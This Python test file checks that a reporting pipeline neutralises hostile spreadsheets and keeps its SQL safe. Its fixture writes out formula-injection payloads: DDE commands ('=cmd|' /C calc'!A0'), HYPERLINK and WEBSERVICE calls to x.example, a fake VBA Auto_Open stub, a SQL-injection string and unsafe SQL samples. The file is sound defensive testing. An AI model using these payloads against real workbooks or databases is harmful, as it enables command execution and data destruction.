"""Nothing a unit sends becomes active in an output, and SQL is never built from its data.

Outputs: one unit sends a macro-enabled workbook (.xlsm with a VBA project) named like a
formula, whose cells hold a hyperlink, live formulas that call HYPERLINK, WEBSERVICE, a DDE
command and another workbook, text that looks like formulas (`=`, `+`, `-`, `@`), a
conditional format, a data validation and a defined name, plus one figure typed as text (so
it gets a feedback workbook). After a real run, every workbook of the run's outputs (the
report, every feedback workbook with its copy of the unit's file) has no macro, no external
link, no hyperlink, no formula but plain arithmetic over cells (and none at all in the
report); the unit's text is text; the Parquet files hold data only.

SQL: every SQL string the code executes is a constant, parameterised, or built only from the
project's own identifiers (tests/sql_safety.py walks the syntax trees); the checker itself is
shown to catch the usual mistakes.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
import python_calamine
import xlsxwriter

from tasks.feedback import LIST_SHEET, is_plain_formula
from tests.conftest import query, run_flow
from tests.sql_safety import check_project, check_source
from tongket.settings import PROJECT_ROOT

FILE_NAME = '=HYPERLINK("x.example","bấm vào").xlsm'  # a file name holds no '/'
LIVE_FORMULAS = {
    "L6": ('=HYPERLINK("http://x.example/?"&B6,"Xem")', "Xem"),
    "L7": ('=WEBSERVICE("http://x.example/"&B7)', ""),
    "L8": ("=cmd|' /C calc'!A0", 0),
    "L9": ("='[1]Sheet1'!A1", 0),
    "L10": ('=_xlfn.IMPORTXML("http://x.example","//a")', ""),
}
TYPED_TEXTS = {  # the five narrative answers of 06_DANHGIA
    "D4": '=HYPERLINK("http://x.example","bấm vào")',
    "D5": "+cmd|' /C calc'!A0",
    "D6": "@SUM(1+1)*cmd|' /C calc'!A0",
    "D7": "-2+3+cmd|' /C calc'!A0",
    "D8": "=1+1",
}
FAKE_VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "ThisWorkbook"\nSub Auto_Open()\nEnd Sub\n' * 8


def _rewrite_as_macro_workbook(source: Path, target: Path, text_cell: tuple[int, int], work: Path) -> None:
    """The unit's report saved again by 'Excel' as .xlsm, with everything that could act."""
    vba = work / "vbaProject.bin"
    vba.write_bytes(FAKE_VBA)
    values = python_calamine.CalamineWorkbook.from_path(str(source))
    book = xlsxwriter.Workbook(
        str(target), {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
    )
    book.add_vba_project(str(vba))
    book.define_name("Dieu_khien", "=cmd|' /C calc'!A0")
    for name in values.sheet_names:
        sheet = book.add_worksheet(name)
        for r, row in enumerate(values.get_sheet_by_name(name).to_python(skip_empty_area=False)):
            for c, value in enumerate(row):
                if (name, r, c) == ("01_PBGDPL", *text_cell):
                    sheet.write_string(r, c, "abc")
                elif isinstance(value, str):
                    if value:
                        sheet.write_string(r, c, value)
                elif isinstance(value, dt.datetime | dt.date):
                    sheet.write_datetime(r, c, value, book.add_format({"num_format": "dd/mm/yyyy"}))
                elif value is not None:
                    sheet.write_number(r, c, value)
        if name == "01_PBGDPL":
            for ref, (formula, cached) in LIVE_FORMULAS.items():
                sheet.write_formula(ref, formula, None, cached)
            sheet.write_formula("K6", "=SUM(E6:I6)", None, 0)  # a plain formula of the unit's own
            sheet.write_url("M6", "http://x.example/phishing", string="Hướng dẫn")
            sheet.conditional_format(
                "E6:I30", {"type": "formula", "criteria": '=WEBSERVICE("http://x.example")<>""', "format": None}
            )
            sheet.data_validation("E6:I30", {"validate": "list", "source": ["=cmd|' /C calc'!A0"]})
        if name == "06_DANHGIA":
            for ref, text in TYPED_TEXTS.items():
                sheet.write_string(ref, text)
    values.close()
    book.close()


@pytest.fixture(scope="module")
def hostile_outputs(demo_sample, tmp_path_factory, prefect_server):
    """The demo inbox with one unit's report replaced by the macro workbook; run once."""
    work = tmp_path_factory.mktemp("injection")
    sample = work / "sample"
    shutil.copytree(demo_sample, sample)
    source = sorted((sample / "inbox").glob("*.xlsx"))[3]
    book = python_calamine.CalamineWorkbook.from_path(str(source))
    rows = book.get_sheet_by_name("01_PBGDPL").to_python(skip_empty_area=False)
    unit = next(str(r[1]) for r in book.get_sheet_by_name("00_THONGTIN").to_python() if r and r[0] == "Mã đơn vị")
    book.close()
    luot = next(i for i, r in enumerate(rows) if len(r) > 1 and r[1] == "PB_LUOT")
    target = sample / "inbox" / FILE_NAME
    _rewrite_as_macro_workbook(source, target, (luot, 6), work)
    stat = source.stat()
    os.utime(target, (stat.st_atime, stat.st_mtime))
    source.unlink()
    result = run_flow(sample, work)
    assert result.published
    return work, unit, work / "outputs" / result.run_id


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.slow
def test_the_unit_file_is_read_and_gets_feedback(hostile_outputs):
    work, unit, run_dir = hostile_outputs
    files = query(
        work / "tongket.duckdb", "select file_name, file_format, status from submission where unit_code = ?", [unit]
    )
    assert files.values.tolist() == [[FILE_NAME, "xlsm", "accepted"]]
    answers = query(work / "tongket.duckdb", "select answer from fact_narrative where unit_code = ?", [unit])
    assert set(TYPED_TEXTS.values()) <= set(answers["answer"])
    assert list((run_dir / "phan-hoi").glob(f"{unit}_*.xlsx"))


@pytest.mark.slow
def test_no_output_workbook_holds_a_macro_a_link_or_an_active_formula(hostile_outputs):
    _, unit, run_dir = hostile_outputs
    workbooks = sorted(run_dir.rglob("*.xlsx"))
    assert len(workbooks) >= 2
    plain_formulas = 0
    for path in workbooks:
        parts = _parts(path)
        names = " ".join(parts)
        assert not re.search(r"vbaProject|externalLink|connections|activeX|embeddings|oleObject", names), path
        content_types = parts["[Content_Types].xml"].decode()
        assert "macroEnabled" not in content_types and "vbaProject" not in content_types, path
        for name, data in parts.items():
            if not name.endswith((".xml", ".rels")):
                continue
            xml = data.decode("utf-8")
            assert "<hyperlink" not in xml and "relationships/hyperlink" not in xml, (path.name, name)
            assert "<conditionalFormatting" not in xml and "<dataValidation " not in xml, (path.name, name)
            assert not re.search(r"<definedName (?![^>]*_xlnm\.)", xml), (path.name, name)
            for formula in re.findall(r"<f(?: [^>]*)?>([^<]*)</f>", xml):
                formula = formula.replace("&amp;", "&").replace("&quot;", '"').replace("&apos;", "'")
                assert path.parent.name == "phan-hoi", (path.name, formula)  # the report has none
                assert is_plain_formula("=" + formula), (path.name, name, formula)
                plain_formulas += 1
    assert plain_formulas > 0  # the unit's own SUM formulas are still formulas in its copy


@pytest.mark.slow
def test_the_copy_keeps_the_units_active_formulas_and_texts_as_text(hostile_outputs):
    _, unit, run_dir = hostile_outputs
    (path,) = (run_dir / "phan-hoi").glob(f"{unit}_*.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[0] == LIST_SHEET
    sheet = book["01_PBGDPL"]
    for ref, (formula, _) in LIVE_FORMULAS.items():
        assert (sheet[ref].value, sheet[ref].data_type) == (formula, "s"), ref
    assert (sheet["K6"].value, sheet["K6"].data_type) == ("=SUM(E6:I6)", "f")
    assert sheet["M6"].hyperlink is None and sheet["M6"].value == "Hướng dẫn"
    answers = book["06_DANHGIA"]
    for ref, text in TYPED_TEXTS.items():
        assert (answers[ref].value, answers[ref].data_type) == (text, "s"), ref
    assert not book.defined_names and not book.vba_archive


@pytest.mark.slow
def test_the_report_writes_the_units_file_name_and_answers_as_text(hostile_outputs):
    _, _, run_dir = hostile_outputs
    (report,) = run_dir.glob("bao-cao-*.xlsx")
    book = openpyxl.load_workbook(report)
    found = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and (cell.value == FILE_NAME or cell.value in TYPED_TEXTS.values()):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    found.add(cell.value)
    assert found == {FILE_NAME, *TYPED_TEXTS.values()}


@pytest.mark.slow
def test_parquet_holds_data_only(hostile_outputs):
    _, unit, run_dir = hostile_outputs
    files = sorted((run_dir / "parquet").glob("*.parquet"))
    assert files
    for path in files:
        data = path.read_bytes()
        assert data[:4] == data[-4:] == b"PAR1", path.name
        metadata = pq.read_metadata(path)
        assert set((metadata.metadata or {}).keys()) <= {b"ARROW:schema"}, path.name
    narratives = pq.read_table(run_dir / "parquet" / "fact_narrative.parquet").to_pandas()
    assert set(TYPED_TEXTS.values()) <= set(narratives.loc[narratives["unit_code"] == unit, "answer"])
    submissions = pq.read_table(run_dir / "parquet" / "submission.parquet").to_pandas()
    assert FILE_NAME in set(submissions["file_name"])


# --- SQL ----------------------------------------------------------------------------------------------
def test_every_sql_string_is_constant_parameterised_or_built_from_project_identifiers():
    findings, sites = check_project(PROJECT_ROOT)
    assert [str(f) for f in findings] == []
    assert sites >= 50  # the checker found the project's SQL (57 sites when written)


UNSAFE = {
    "a parameter in an f-string": "def f(con, name):\n    con.execute(f\"select * from t where n = '{name}'\")\n",
    "str.format": "def f(con, name):\n    con.execute('select {}'.format(name))\n",
    "percent formatting": "def f(con, name):\n    con.execute('select %s' % name)\n",
    "concatenation": "def f(con, name):\n    con.execute('select ' + name)\n",
    "a name read from the database": (
        "def f(con):\n    for (t,) in con.execute('select x from y').fetchall():\n        con.execute(f'drop table {t}')\n"
    ),
    "through a helper": (
        "def run(con, sql):\n    return con.execute(sql).fetchall()\n"
        "def f(con, name):\n    return run(con, f'select {name}')\n"
    ),
    "joined names": "def f(con, names):\n    con.execute('select ' + ', '.join(names))\n",
    "a file": "def f(con, path):\n    con.execute(path.read_text())\n",
    "a helper interpolating a caller's value": (
        "def copy(con, sql):\n    con.execute(f'copy ({sql}) to out.csv')\n"
        "def f(con, name):\n    copy(con, f'select {name}')\n"
    ),
    "a helper interpolating a parameter nobody passes": (
        "def copy(con, sql):\n    con.execute(f'copy ({sql}) to out.csv')\n"
    ),
    "a helper's result": (
        "def columns(names):\n    return ', '.join(names)\ndef f(con, names):\n    con.sql(f'select {columns(names)}')\n"
    ),
}
SAFE = {
    "a helper interpolating a constant query": (
        "Q = 'select 1'\ndef copy(con, sql):\n    con.execute(f'copy ({sql}) to out.csv')\n"
        "def f(con):\n    copy(con, Q)\n"
    ),
    "a parameter": "def f(con, name):\n    con.execute('select * from t where n = ?', [name])\n",
    "a constant loop": "TABLES = ('a', 'b')\ndef f(con):\n    for t in TABLES:\n        con.execute(f'delete from {t}')\n",
    "an identifier": (
        "from tongket.duck import identifier\ndef f(con, t):\n    con.execute(f'delete from {identifier(t)}')\n"
    ),
    "a number": "def f(con, n):\n    con.execute(f'select {int(n)}')\n",
    "a constant fragment": (
        "COLS = ['a', 'b']\ndef f(con):\n    cols = ', '.join(COLS)\n    con.execute(f'select {cols} from t')\n"
    ),
}


@pytest.mark.parametrize("case", UNSAFE, ids=list(UNSAFE))
def test_the_sql_checker_catches(case):
    findings = check_source(UNSAFE[case])
    assert findings, case


@pytest.mark.parametrize("case", SAFE, ids=list(SAFE))
def test_the_sql_checker_accepts(case):
    assert check_source(SAFE[case]) == []


def test_identifier_and_literal_quoting():
    from tongket.duck import identifier, sql_literal

    assert identifier("mart_award_collective") == '"mart_award_collective"'
    for bad in ('x"; drop table submission; --', "Submission", "a b", "", "1x"):
        with pytest.raises(ValueError):
            identifier(bad)
    assert sql_literal("/tmp/o'brien/x.parquet") == "'/tmp/o''brien/x.parquet'"
